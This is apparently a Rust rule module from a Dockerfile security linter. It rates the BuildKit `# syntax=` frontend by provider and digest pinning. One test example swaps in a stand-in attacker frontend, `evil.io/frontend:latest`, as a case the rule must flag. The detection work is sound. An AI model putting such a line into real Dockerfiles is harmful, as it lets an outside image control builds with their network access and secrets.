//! Which program reads the Dockerfile: the image behind `# syntax=`.

use crate::model::{
    Dockerfile, Example, Found, Glob, Level, Measure, Reference, Rule, Severity, Text,
};

const PINNED: Level = Level::closed("Docker's own, pinned by digest");
const VERSION: Level = Level::low(1, "Docker's own, by version")
    .in_new_unit(Severity::Info)
    .when_added(Severity::Info);
const NEWEST: Level = Level::medium(2, "Docker's own, whatever is newest or experimental")
    .in_new_unit(Severity::Info)
    .when_added(Severity::Low)
    .when_widened(Severity::Low);
const OTHER: Level = Level::high(3, "somebody else's, pinned by digest");
const OTHER_LOOSE: Level = Level::high(4, "somebody else's, on a reference that can move");

pub(super) const RULE: Rule = Rule {
    id: "frontend",
    promise: "The program that reads a Dockerfile is never exchanged for somebody else's.",
    why: "BuildKit fetches the image behind `# syntax=` and lets it read the whole file: it decides \
          what is built from it, with the build's network and secrets.",
    fix: "Use `# syntax=docker/dockerfile:1`, with a digest where builds must repeat.",
    fix_in: &[],
    levels: &[PINNED, VERSION, NEWEST, OTHER, OTHER_LOOSE],
    references: &[
        Reference::Cwe(829),
        Reference::Docker("Dockerfile reference: syntax"),
        Reference::Docker("Custom Dockerfile syntax"),
    ],
    answers: &[],
    options: &["trusted-images"],
    every_commit: false,
    measure: &[Measure::Dockerfile(measure)],
    examples: &[
        Example {
            file: "Dockerfile",
            change: "
                -# syntax=docker/dockerfile:1
                +# syntax=evil.io/frontend:latest
                  FROM node:20
                  USER node
            ",
            beside: &[],
            findings: &[
                "frontend of the file: was Docker's own, by version (docker/dockerfile:1), now somebody else's, on a reference that can move (evil.io/frontend:latest)",
            ],
        },
        Example {
            file: "Dockerfile", // the usual line
            change: "
                -# syntax=docker/dockerfile:1
                +# syntax=docker.io/docker/dockerfile:1.7
                  FROM node:20
                  USER node
            ",
            beside: &[],
            findings: &[],
        },
    ],
};

fn measure(dockerfile: &Dockerfile, _text: &Text, found: &mut Found<'_>) {
    let Some(directive) = dockerfile.directives.iter().find(|line| line.name == "syntax") else {
        return;
    };
    let Some(reference) = directive.value.value.split_whitespace().next() else { return };
    let place = directive.value.with(reference.to_owned());
    let pinned = reference.contains("@sha256:");
    let plain = reference.split('@').next().unwrap_or_default();
    let slash = plain.rfind('/').map_or(0, |at| at + 1);
    let (name, tag) = match plain[slash..].split_once(':') {
        Some((_, tag)) => (&plain[..plain.len() - tag.len() - 1], tag),
        None => (plain, "latest"),
    };
    let hub = ["docker.io/", "index.docker.io/", "registry-1.docker.io/", "mirror.gcr.io/"];
    let short = hub.iter().find_map(|host| name.strip_prefix(host)).unwrap_or(name);
    let own = matches!(short, "docker/dockerfile" | "docker/dockerfile-upstream");
    let trusted = found
        .settings
        .trusted_images
        .iter()
        .any(|glob| Glob::new(glob).is_ok_and(|glob| glob.matches(name.as_bytes())));
    let stable = tag.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
    let level = match (own || trusted, pinned) {
        (true, true) => PINNED,
        (true, false) if stable && short == "docker/dockerfile" => VERSION,
        (true, false) => NEWEST,
        (false, true) => OTHER,
        (false, false) => OTHER_LOOSE,
    };
    found.at(level, "frontend", &place);
}
